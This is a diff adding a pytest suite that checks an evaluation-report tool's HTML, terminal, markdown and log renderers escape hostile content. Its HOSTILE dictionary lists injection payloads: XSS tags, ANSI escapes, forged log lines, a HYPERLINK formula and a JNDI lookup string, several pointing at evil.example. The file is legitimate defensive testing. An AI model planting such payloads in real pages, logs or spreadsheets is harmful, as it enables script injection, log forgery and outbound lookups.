@@ -1,0 +1,220 @@
+"""Every renderer, with friendly and with hostile content."""
+
+import json
+import re
+import unicodedata
+from collections.abc import Iterator
+from html.parser import HTMLParser
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest
+from opentelemetry.proto.logs.v1.logs_pb2 import LogRecord
+from report_samples import FINDING, NOW, REGRESSION, TRACES, change, outcome, proposal, sample
+
+from evalspan.plugin import PluginError
+from evalspan.report import RENDERERS, Report, build, render
+from evalspan.report._text import one_line, visible
+
+HOSTILE = {
+    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
+    "attribute": '" onmouseover="alert(1)" x=\'',
+    "ansi": "\x1b[31mred\x1b]0;title\x07\x9b2J\r\x08",
+    "right_to_left": "user\u202egnp.exe\u2066\u200f",
+    "forged_line": 'fine\n2026-03-01 level=error msg="all is lost"\r\nSet-Cookie: a=b',
+    "formula": '=HYPERLINK("http://evil.example","click")',
+    "markdown": "](http://evil.example) ![x](http://evil.example/x.png) | `code` **bold** # h",
+    "fence": "```\nout of the fence\n`````",
+    "endless": "x" * 1_000_000,
+    "nothing": "\x00\ud800".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
+    "template": "{{7*7}} ${jndi:ldap://evil} %s {trace_id}",
+}
+
+
+def hostile(text: str) -> Report:
+    """A report with the text wherever a trace or a person can put one."""
+    return build(
+        {**REGRESSION, "check": text, "slice": json.dumps({text: text}), "old": text,
+         "new": text, "view": text, "reason": text, "id": text},
+        [{**FINDING, "title": text, "countermeasure": text, "prompt_diff": f"@@ -1 +1 @@\n+{text}"}
+        ],
+        outcome(
+            summary=text,
+            accepted=proposal(rationale=text, diff=f"@@ -1 +1 @@\n-{text}\n+{text} more"),
+            rejected=[proposal(reason=text, mutator=text)],
+            better=[change(reason=text, input=text, before=text, after=text, trace_id=text)],
+            errors=[text],
+        ),
+        None,
+        now=NOW,
+        settings=None,
+        revisions={text: text},
+    )  # fmt: skip
+
+
+class Page(HTMLParser):
+    """Collects tags and attributes of a page."""
+
+    def __init__(self, text: str) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.attributes: list[tuple[str, str, str | None]] = []
+        self.feed(text)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.attributes += [(tag, name, value) for name, value in attrs]
+
+
+def records(report: Report) -> list[LogRecord]:
+    request = ExportLogsServiceRequest.FromString(bytes(render(report, "otlp")))  # type: ignore[arg-type]
+    return list(request.resource_logs[0].scope_logs[0].log_records)
+
+
+def acting(text: str) -> Iterator[str]:
+    """Characters that do something instead of standing there."""
+    for character in text:
+        if character not in "\n\t\u200c\u200d" and unicodedata.category(character)[0] == "C":
+            yield character
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_hostile_content_stays_text_on_the_page(name: str) -> None:
+    text = str(render(hostile(HOSTILE[name]), "html"))
+    page = Page(text)
+    assert page.tags.isdisjoint({"script", "img", "iframe", "object", "base", "embed"})
+    assert not [entry for entry in page.attributes if entry[1].startswith("on")]
+    assert {value for _, key, value in page.attributes if key == "src"} == set()
+    links = [str(value) for _, key, value in page.attributes if key == "href"]
+    assert all(re.match(r"\./$|[0-9a-f]{16}\.(json|md)$", link) for link in links)
+    assert not list(acting(text))
+    assert len(text) < 300_000
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_hostile_content_stays_text_in_a_terminal(name: str) -> None:
+    text = str(render(hostile(HOSTILE[name]), "terminal"))
+    assert not list(acting(text))
+    assert not re.search(r"^\d{4}-\d\d-\d\d level=error", text, re.MULTILINE)
+    assert len(text) < 100_000
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_hostile_content_stays_text_in_markdown(name: str) -> None:
+    text = str(render(hostile(HOSTILE[name]), "markdown"))
+    assert not list(acting(text))
+    outside = re.sub(r"^(`{3,})diff\n.*?^\1$", "", text, flags=re.MULTILINE | re.DOTALL)
+    assert "```" not in outside
+    assert not re.search(r"(?<!\\)[<\[]|://|^level|^2026|^Set-Cookie", outside, re.MULTILINE)
+    assert len(text) < 200_000
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_hostile_content_stays_one_line_in_a_log(name: str) -> None:
+    found = records(hostile(HOSTILE[name]))
+    assert len(found) == 3
+    for record in found:
+        body = record.body.string_value
+        assert body.isascii()
+        assert body.isprintable()
+        assert len(body) < 200_000
+        json.loads(body)
+        for attribute in record.attributes:
+            value = attribute.value.string_value
+            assert len(value) < 200
+            assert "\n" not in value
+            assert not list(acting(value))
+
+
+@settings(max_examples=60, deadline=None)
+@given(text=st.text())
+def test_nothing_acts_in_visible_text(text: str) -> None:
+    assert not list(acting(visible(text)))
+    assert "\n" not in one_line(text)
+    assert "\t" not in one_line(text)
+
+
+@settings(max_examples=25, deadline=None)
+@given(text=st.text(max_size=200))
+def test_any_text_can_be_rendered(text: str) -> None:
+    report = hostile(text)
+    tags = Page(str(render(report, "html"))).tags
+    assert "script" not in tags
+    for name in ("terminal", "markdown", "otlp"):
+        assert render(report, name)
+
+
+def test_lines_that_are_too_long_are_cut_with_a_marker() -> None:
+    assert visible("a" * 3000 + "\nb") == "a" * 2000 + " … [1,000 characters more]\nb"
+    assert one_line("a\nb") == "a ⏎ b"
+    assert visible("\x1b[0m\u202e") == "␛[0m[U+202E]"
+
+
+def test_the_page_forbids_scripts_and_outside_assets() -> None:
+    text = str(render(sample(), "html"))
+    policy = re.search(r'Content-Security-Policy" content="([^"]+)"', text)
+    assert policy
+    assert "default-src &#x27;none&#x27;" in policy[1]
+    assert "unsafe" not in policy[1]
+    page = Page(text)
+    assert not [entry for entry in page.attributes if entry[1] in {"src", "style", "srcset"}]
+    assert "svg" in page.tags
+    assert "@import" not in text
+    assert "url(" not in text
+
+
+def test_the_page_has_the_figures_the_charts_and_the_diffs() -> None:
+    text = str(render(sample(), "html"))
+    for words in (
+        "json_schema fell from 97% to 60%",
+        "pass rate of json_schema, %",
+        "time, UTC",
+        "share of the drop, %",
+        "difference, percentage points",
+        "needs 12 more",
+        "improves json_schema by 30 points but language falls",
+        "<del>numbers</del>",
+        "<ins>text</ins>",
+        f'href="https://tempo.example/{TRACES[0]}"',
+        "Cases that got better (1)",
+        "0.25 US dollars",
+    ):
+        assert words in text
+
+
+def test_a_bare_regression_renders_everywhere() -> None:
+    names = ("id", "check", "candidate_n")
+    report = build({name: REGRESSION[name] for name in names}, [], now=NOW)
+    for name in ("html", "terminal", "markdown", "otlp"):
+        assert render(report, name)
+
+
+def test_log_records_have_names_ids_and_traces() -> None:
+    first, again = records(sample()), records(sample())
+    names = [record.event_name for record in first]
+    assert names == ["evalspan.regression", "evalspan.root_cause", "evalspan.optimization"]
+    assert first[0].trace_id.hex() == TRACES[0]
+    assert (first[1].trace_id.hex(), first[1].span_id.hex()) == (TRACES[0], f"{7:016x}")
+    ids = [attributes(record)["evalspan.event.id"] for record in first]
+    assert ids == [attributes(record)["evalspan.event.id"] for record in again]
+    assert len(set(ids)) == 3
+    assert [record.severity_text for record in first] == ["WARN", "WARN", "INFO"]
+    resolved = records(sample(regression={**REGRESSION, "state": "resolved"}))
+    assert attributes(resolved[0])["evalspan.event.id"] != ids[0]
+    assert resolved[0].severity_text == "INFO"
+    body = json.loads(first[2].body.string_value)
+    assert body["verdict"] == "accepted with reservations"
+    assert body["rejected"][0]["reason"].startswith("improves json_schema")
+
+
+def attributes(record: LogRecord) -> dict[str, Any]:
+    return {each.key: each.value.string_value for each in record.attributes}
+
+
+def test_a_renderer_of_the_user_and_an_unknown_one() -> None:
+    assert render(sample(), "report_samples:shown") == "shown"
+    with pytest.raises(PluginError, match="Did you mean 'markdown'"):
+        render(sample(), "markdwn")
+    assert RENDERERS == "evalspan.report.renderers"
